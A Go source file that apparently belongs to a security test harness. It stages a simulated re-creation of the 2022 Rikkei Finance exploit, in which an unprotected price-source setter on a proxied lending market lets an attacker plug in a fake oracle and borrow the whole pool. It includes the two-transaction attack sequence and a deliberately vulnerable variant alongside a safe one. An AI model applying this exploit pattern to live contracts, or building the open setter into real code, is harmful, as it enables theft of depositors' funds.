package attack

import (
	"context"
	"fmt"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// ProxyUnprotectedSetter re-creates an access-control bug in a proxied
// implementation: Rikkei Finance (Apr 2022), whose price-source setter had
// no access control, so anyone could plug in a source returning any price.
//
// Setup deploys USDx, GOVx (5 USDx on the protocol's owner-run feed), the
// ImplACLending implementation and an EIP-1967 ImplACProxy initialised to
// it (owner, guardian, feed), funded with 1,000,000 USDx by two honest
// lenders; the attacker deploys ImplACAttacker (which is also a price
// source answering 1e36) holding 10 GOVx. The exploit is two transactions
// from the attacker's EOA: setPriceSource(attacker contract) on the proxy,
// then attack(): post the 10 GOVx and borrow the whole pool.
//
// Vulnerable: setPriceSource is open to anyone. Safe: it is owner-only; the
// first transaction reverts, and so does the borrow at the real price.
//
// Units: USDx; GOVx at 5 USDx. ProtocolLoss is the proxy's value decrease.
type ProxyUnprotectedSetter struct{}

// Info implements Scenario.
func (ProxyUnprotectedSetter) Info() Info {
	return Info{
		Name:     "proxy-unprotected-setter",
		Class:    "access control bug in a proxy's implementation",
		Incident: "Rikkei Finance Apr 2022 (unprotected setOracleData)",
		Summary: "Anyone can call the proxied lending market's price-source setter; the attacker plugs in its own " +
			"contract answering an absurd price and borrows the whole pool against 10 tokens.",
	}
}

// Setup implements Scenario.
func (ProxyUnprotectedSetter) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "proxy-unprotected-setter"
	if err := prepare(name, env, v, 2); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	usd, err := deployUSDx(ctx, c, d)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	gov, err := deployToken(ctx, c, d, "Governance X", "GOVx", tokens(100_000_000))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	price := tokens(5)
	feed, err := deployNamed(ctx, c, d, "ImplACFixedFeed")
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := transact(ctx, feed, d, nil, "set GOVx price", "setPrice", gov.Address, price); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	impl, err := deployNamed(ctx, c, d, "ImplACLending")
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	init, err := impl.Pack("initialize", d.Address, env.Guardian.Address, usd.Address, gov.Address, feed.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: pack initialize: %w", name, err)
	}
	proxyK, err := deployNamed(ctx, c, d, "ImplACProxy", impl.Address, init)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	market := c.Bind(proxyK.Address, impl.ABI)
	for _, u := range env.Users[:2] {
		if err := giveTokens(ctx, usd, d, tokens(500_000), u.Address); err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		if err := approveAndCall(ctx, usd, market, u, tokens(500_000), "supply", tokens(500_000)); err != nil {
			return nil, fmt.Errorf("%s: honest lender: %w", name, err)
		}
	}
	atk, err := deployNamed(ctx, c, env.Attacker, "ImplACAttacker")
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, gov, d, tokens(10), atk.Address); err != nil {
		return nil, fmt.Errorf("%s: attacker's GOVx: %w", name, err)
	}
	s := &incidentStaged{
		client:  c,
		targets: []Target{{Name: "ImplACProxy (ImplACLending)", Address: market.Address, Pausable: true}},
		book: &ledger{client: c, unit: "USDx", assets: []pricedAsset{
			{symbol: "USDx", token: usd, price: unitOne()},
			{symbol: "GOVx", token: gov, price: price},
		}},
		attackerEOA: env.Attacker.Address,
		attackers:   []common.Address{env.Attacker.Address, atk.Address},
		victims:     []common.Address{market.Address},
	}
	s.build = func(ctx context.Context) ([]*types.Transaction, error) {
		set, err := buildCall(ctx, c, env.Attacker, market, nil, "setPriceSource", atk.Address)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		borrow, err := buildCall(ctx, c, env.Attacker, atk, nil, "attack", market.Address)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return []*types.Transaction{set, borrow}, nil
	}
	if err := s.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return s, nil
}
